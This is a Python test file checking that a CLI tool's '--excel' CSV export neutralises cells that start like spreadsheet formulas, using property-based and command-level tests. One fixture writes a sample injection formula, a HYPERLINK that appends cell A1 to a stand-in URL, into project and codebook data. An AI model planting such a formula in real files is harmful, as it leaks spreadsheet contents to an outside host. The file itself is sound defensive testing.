"""What --excel gives is text and numbers: nothing that a spreadsheet takes for a formula, whatever the data."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adv_cli.output.formats import excel
from conftest import Adv
from towns import DREMPEL, write_towns

BEGINS = tuple("=+-@＝＋－＠\t\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
FORMULA = '=HYPERLINK("http://voorbeeld.invalid/?"&A1)'

risky = st.builds(
    "".join,
    st.tuples(
        st.sampled_from(["", " ", "\t", "\u00a0", "\r\n "]), st.sampled_from(BEGINS), st.text()
    ),
)
texts = st.text() | risky
cells = (
    st.none()
    | st.booleans()
    | texts
    | st.lists(texts)
    | st.tuples(texts, texts)
    | st.lists(st.lists(texts))
)


def read(out: str) -> list[list[str]]:
    assert out.startswith("\ufeff")
    return list(csv.reader(io.StringIO(out[1:], newline=""), delimiter=";"))


@given(st.lists(st.fixed_dictionaries({"a": cells, "=b": cells}), max_size=3))
def test_no_cell_begins_a_formula(rows: list[dict[str, object]]) -> None:
    found = read(excel(rows, ("a", "=b")))
    assert len(found) == len(rows) + 1
    assert not [cell for row in found for cell in row if cell.lstrip().startswith(BEGINS)]


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_stays_a_number(number: float) -> None:
    assert read(excel([{"a": number}], ("a",)))[1] == [str(number)]


@given(
    st.text(alphabet=st.characters(categories=["L", "N"]))
    | st.sampled_from(["0182-589315", "a=b", "€ 300.000,-"])
)
def test_other_text_is_left_alone(text: str) -> None:
    plain = " ".join(text.split())
    assert [cell for row in read(excel([{"a": text, "b": 1}], ("a", "b")))[1:] for cell in row] == [
        plain,
        "1",
    ]


@pytest.fixture
def spoiled(tmp_path: Path) -> Path:
    """Data of which a name, a lesson, a title, an alias and a label begin as formulas do."""
    data = write_towns(tmp_path)
    duinhof = data / "projects" / f"{DREMPEL}.yaml"
    text = duinhof.read_text("utf-8")
    for old, new in (
        ("titel: Over de Drempel", f"titel: '{FORMULA}'"),
        ("  samenwerkingspartners: [", f"  samenwerkingspartners: ['{FORMULA}', "),
        ("  knelpunten:\n", "  knelpunten:\n    - tekst: ＋1\n"),
    ):
        assert old in text
        text = text.replace(old, new, 1)
    duinhof.write_text(text, "utf-8")
    codebook = data / "codeboek.yaml"
    text = codebook.read_text("utf-8")
    assert "aliassen: [" in text
    codebook.write_text(text.replace("aliassen: [", f"aliassen: ['{FORMULA}', ", 1), "utf-8")
    return data


@pytest.mark.parametrize(
    ("arguments", "there"),
    [
        (["list", "--velden", "id,titel,samenwerkingspartners,knelpunten"], True),
        (["compare", "duinhof", "feldwijk", "--sectie", "samenwerkingspartners"], True),
        (["values"], True),
        (["items", "samenwerkingspartners"], True),
        (["items", "knelpunten"], True),
        (["search", "hyperlink"], True),
        (["stats"], False),
        (["stats", "niveau"], False),
        (["stats", "niveau", "doelgroep"], False),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)
def test_no_command_gives_a_formula(
    adv: Adv, spoiled: Path, arguments: list[str], there: bool
) -> None:
    result = adv(*arguments, "--excel", "--data", str(spoiled))
    assert result.code == 0
    found = [cell for row in read(result.out) for cell in row]
    assert not [
        cell for cell in found if cell.lstrip().startswith(BEGINS) and not NUMBER.fullmatch(cell)
    ]
    assert any(cell.startswith(("'=", "'＋")) for cell in found) == there
